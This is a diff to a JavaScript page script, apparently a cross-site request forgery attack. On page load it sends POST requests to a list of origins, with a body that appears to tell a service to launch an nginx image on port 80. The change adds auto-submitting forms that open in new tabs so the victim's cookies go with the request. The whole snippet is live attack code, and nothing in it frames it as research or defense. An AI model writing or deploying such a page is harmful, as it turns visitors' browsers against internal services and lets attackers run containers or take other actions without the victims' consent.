@@ -48,8 +48,11 @@ addEventListener("load", async () => {
             const said = { headers: { "Content-Type": type }, body: "modes=none&image=nginx&port=80" };
             await fetch(origin + path, { ...options, ...said }).catch(() => {});
         }
+    }
+    // A new tab for each form costs most: only where the cookies are.
+    for (const path of PATHS) {
         const form = document.createElement("form");
-        form.method = "post"; form.action = origin + path; form.target = "_blank";
+        form.method = "post"; form.action = ORIGINS[0] + path; form.target = "_blank";
         document.body.append(form); form.submit();
     }
     document.title = "done";
